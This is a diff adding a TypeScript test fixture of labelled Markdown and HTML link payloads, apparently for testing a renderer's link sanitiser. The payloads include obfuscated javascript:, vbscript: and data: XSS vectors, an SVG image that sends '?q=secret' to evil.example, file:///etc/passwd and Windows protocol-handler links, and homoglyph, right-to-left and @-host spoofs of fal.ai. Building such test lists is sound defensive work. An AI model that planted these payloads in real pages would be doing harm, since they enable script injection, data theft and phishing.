@@ -1,0 +1,78 @@
+import type { Payload } from "./payload.ts";
+
+const HTML = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";
+
+/** Links that run something, or lead to what they do not say. */
+export const ADDRESSES: readonly Payload[] = [
+  ["javascript", "[click](javascript:alert(1))"],
+  ["javascript in capitals", "[click](JaVaScRiPt:alert(1))"],
+  ["javascript in pointed brackets", "[click](<javascript:alert(1)>)"],
+  ["javascript with blanks before it", "[click](<  javascript:alert(1)>)"],
+  ["javascript with a tab", "[click](<java\tscript:alert(1)>)"],
+  ["javascript with a line end as an entity", "[click](java&#10;script:alert(1))"],
+  ["javascript with a tab as an entity", "[click](java&Tab;script:alert(1))"],
+  ["javascript with its colon as an entity", "[click](javascript&colon;alert(1))"],
+  ["javascript with its colon as a number", "[click](javascript&#58;alert(1))"],
+  ["javascript with a number without semicolon", "[click](javascript&#0000058alert(1))"],
+  ["javascript with a hexadecimal number", "[click](&#x6A;&#x61;vascript:alert(1))"],
+  [
+    "javascript with all letters as numbers",
+    `[click](${Array.from("javascript:alert(1)", (char) => `&#${char.charCodeAt(0)};`).join("")})`,
+  ],
+  ["javascript with backslashes", "[click](javascript\\:alert(1))"],
+  ["javascript with a control character", "[click](<\u0001javascript:alert(1)>)"],
+  ["javascript with a NUL", "[click](<java\u0000script:alert(1)>)"],
+  ["javascript with a soft hyphen", "[click](java\u00adscript:alert(1))"],
+  ["javascript with a zero width", "[click](\u200bjavascript:alert(1))"],
+  ["javascript with a byte order mark", "[click](\ufeffjavascript:alert(1))"],
+  ["javascript in percents", "[click](javascript%3Aalert(1))"],
+  ["javascript with slashes", "[click](javascript://evil.example/%0aalert(1))"],
+  ["javascript in full width", "[click](ｊavascript:alert(1))"],
+  ["javascript as a picture", "![a](javascript:alert(1))"],
+  ["javascript in an autolink", "<javascript:alert(1)>"],
+  ["javascript in an autolink with percents", "<javascript:alert%281%29>"],
+  ["javascript by reference", "[click][a]\n\n[a]: javascript:alert(1)"],
+  ["javascript by reference in pointed brackets", "[a]\n\n[a]: <javascript:alert(1)> 'b'"],
+  ["javascript by reference in the next line", "[a]\n\n[a]:\n  javascript:alert(1)"],
+  ["javascript in HTML", '<a href="javascript:alert(1)">click</a>'],
+  [
+    "javascript in HTML with entities",
+    '<a href="&#106;avascript&colon;alert&lpar;1&rpar;">click</a>',
+  ],
+  ["javascript in HTML without quotes", "<a href=javascript:alert(1)>click</a>"],
+  ["view source", "[click](view-source:javascript:alert(1))"],
+  ["vbscript", "[click](vbscript:msgbox(1))"],
+  ["data", "[click](data:text/html,<script>alert(1)</script>)"],
+  ["data in base64", `[click](data:text/html;base64,${HTML})`],
+  ["data as a picture", `![a](data:text/html;base64,${HTML})`],
+  ["data of XML", `[click](data:application/xhtml+xml;base64,${HTML})`],
+  ["SVG as a link", "[click](data:image/svg+xml,<svg/onload=alert(1)>)"],
+  [
+    "SVG as a picture",
+    "![a](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
+  ],
+  [
+    "SVG as a picture with a script",
+    "![a](<data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>>)",
+  ],
+  [
+    "SVG as a picture with a picture",
+    `![a](data:image/svg+xml,${encodeURIComponent("<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.example/?q=secret'/></svg>")})`,
+  ],
+  ["blob", "[click](blob:https://evil.example/0)"],
+  ["file", "[click](file:///etc/passwd)"],
+  [
+    "a program of the system",
+    "[click](ms-msdt:/id/a) [b](search-ms:query=c) [d](intent://e#Intent;end)",
+  ],
+  ["an address without a scheme", "[click](//evil.example/)"],
+  [
+    "an address of the page itself",
+    "[click](/proxy?url=https://evil.example/) [a](#/connect) [b](?key=c)",
+  ],
+  ["backslashes for slashes", "[click](https:\\\\evil.example\\)"],
+  ["a name before the host", "[click](https://fal.ai@evil.example/)"],
+  ["another host in its words", "[https://fal.ai/dashboard](https://evil.example/)"],
+  ["text that is turned", "[\u202egro.elpmaxe\u202c](https://evil.example/)"],
+  ["letters of another alphabet", "[fаl.ai](https://fаl.ai/)"],
+];
